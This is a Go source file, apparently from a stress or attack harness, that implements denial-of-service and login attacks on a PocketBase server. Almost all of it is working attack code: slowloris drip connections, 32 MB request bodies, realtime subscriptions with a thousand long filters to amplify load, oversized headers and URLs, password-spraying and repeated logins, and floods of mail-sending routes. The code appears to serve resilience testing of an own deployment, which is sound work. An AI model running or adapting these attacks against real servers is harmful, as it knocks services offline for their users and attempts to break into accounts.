package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"regexp"
	"strings"
	"time"
)

// post makes the same request with a body, so many at once.
func (t *target) post(copies int, path, token string, body []byte) {
	t.each(copies, func(int) { t.ask(http.MethodPost, path, token, body, nil) })
}

// getting asks for the same again and again.
func getting(path string) func(*target) {
	return func(t *target) { t.each(50, func(int) { t.ask(http.MethodGet, path, "", nil, nil) }) }
}

// largeBody is 32 MB of JSON.
func largeBody() []byte { return listBody("x", 15_900_000, `"content":"x",`) }

// listBody is an object with an array of so many numbers.
func listBody(name string, numbers int, before string) []byte {
	return []byte(`{` + before + `"` + name + `":[` + strings.Repeat("7,", numbers) + `7]}`)
}

// subscribe holds connections of PocketBase's own realtime, whose every subscription is
// compared with every record that is saved. token may be empty.
func (t *target) subscribe(connections int, token string) {
	t.each(connections, func(int) {
		conn, err := t.connect(fmt.Sprintf("GET /api/realtime HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\n\r\n", t.address, token))
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }() // the attack is over
		response, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return
		}
		defer response.Body.Close()
		if response.StatusCode != http.StatusOK {
			t.refused(response)
			t.pause(20 * time.Millisecond)
			return
		}
		for lines := bufio.NewScanner(response.Body); lines.Scan(); {
			_, data, _ := strings.Cut(lines.Text(), "data:")
			var hello struct {
				ClientID string `json:"clientId"`
			}
			if err := json.Unmarshal([]byte(data), &hello); err == nil && hello.ClientID != "" {
				t.ask(http.MethodPost, "/api/realtime", token, subscriptions(hello.ClientID), nil)
				<-t.ctx.Done()
				return
			}
		}
	})
}

func subscriptions(client string) []byte {
	long := strings.Repeat("x", 1900)
	all := make([]string, 1000)
	for n := range all {
		all[n] = fmt.Sprintf(`messages/*?options={"query":{"filter":"content!='%s%d'"}}`, long, n)
	}
	return encoded(map[string]any{"clientId": client, "subscriptions": all})
}

// encoded is JSON of what always has some.
func encoded(value any) []byte {
	data, err := json.Marshal(value)
	if err != nil {
		panic(err)
	}
	return data
}

func (t *target) askForNothing() {
	long := strings.Repeat("x", 11_000) // three times: what the server lets through at all
	headers := map[string]string{"User-Agent": long, "Referer": "http://" + long}
	t.each(50, func(int) {
		t.ask(http.MethodGet, fmt.Sprintf("/api/%d/%s", rand.IntN(1e9), long), "", nil, headers)
	})
}

func (t *target) guessNames() {
	t.each(50, func(int) {
		t.ask(http.MethodPost, logInPath, "", fmt.Appendf(nil, `{"identity":"nobody%d@demo.example","password":"guessed"}`, rand.IntN(1e9)), nil)
	})
}

// guessPasswords tries a few passwords of each of many people.
func (t *target) guessPasswords() {
	const known = 100
	var emails []string
	for n := range known {
		if email, err := t.emailOf(attackers + n); err == nil {
			emails = append(emails, email)
		}
	}
	if len(emails) == 0 {
		return
	}
	t.each(50, func(int) {
		t.ask(http.MethodPost, logInPath, "", fmt.Appendf(nil, `{"identity":%q,"password":"guessed"}`, emails[rand.IntN(len(emails))]), nil)
	})
}

// logInAgain makes the server compare a password, and issue a token, as often as it will.
func (t *target) logInAgain() {
	email, err := t.emailOf(attackers)
	if err != nil {
		return
	}
	t.post(50, logInPath, "", encoded(map[string]string{"identity": email, "password": demoPassword}))
}

// askFor sends the address of a pupil to one of PocketBase's routes that send mail.
func (t *target) askFor(action string) {
	email, err := t.emailOf(attackers)
	if err != nil {
		return
	}
	t.post(50, "/api/collections/users/"+action, "", encoded(map[string]string{"email": email}))
}

// fetchScripts asks for the largest files that strangers get, in the form that costs most.
func (t *target) fetchScripts() {
	scripts := t.scripts()
	t.each(20, func(n int) {
		t.ask(http.MethodGet, scripts[n%len(scripts)], "", nil, map[string]string{"Accept-Encoding": "gzip"})
	})
}

// scripts are those of the page, or the page itself of a program without its client.
func (t *target) scripts() []string {
	_, page := t.ask(http.MethodGet, "/", "", nil, nil)
	return append(regexp.MustCompile(`/assets/[^"]+\.js`).FindAllString(string(page), -1), "/")
}

// drip holds connections whose requests never end: a beginning, then a little more each second.
func (t *target) drip(beginning, more string) {
	t.each(500, func(int) {
		conn, err := t.connect(beginning)
		if err != nil {
			t.pause(time.Second)
			return
		}
		defer func() { _ = conn.Close() }()
		for err == nil && t.ctx.Err() == nil {
			t.pause(time.Second)
			_, err = io.WriteString(conn, more)
		}
		if err != nil && t.ctx.Err() == nil {
			t.count(cutOff)
		}
	})
}

// leaveUnread makes the same request on many connections, and reads only refusals.
func (t *target) leaveUnread(connections int, path, token string) {
	t.each(connections, func(int) {
		conn, err := t.connect(fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: %s\r\n\r\n", path, t.address, token))
		if err != nil {
			t.pause(time.Second)
			return
		}
		defer func() { _ = conn.Close() }()
		response, err := http.ReadResponse(bufio.NewReaderSize(conn, 16), nil) // its head alone
		if err != nil {
			return
		}
		defer response.Body.Close()
		if response.StatusCode != http.StatusOK {
			t.refused(response)
			t.pause(time.Second)
			return
		}
		t.count(fmt.Sprint(response.StatusCode))
		<-t.ctx.Done()
	})
}

// refused counts a response, with the code in its body.
func (t *target) refused(response *http.Response) {
	said, _ := io.ReadAll(response.Body) // if it fails, the status is counted alone
	t.count(refusalOf(response.StatusCode, said))
}

// connect opens a connection, writes to it, and closes it with the attack.
func (t *target) connect(request string) (net.Conn, error) {
	conn, err := dialSmall(t.ctx, "tcp", t.address)
	if err != nil {
		return nil, err
	}
	context.AfterFunc(t.ctx, func() { _ = conn.Close() })
	_, err = io.WriteString(conn, request)
	return conn, err
}
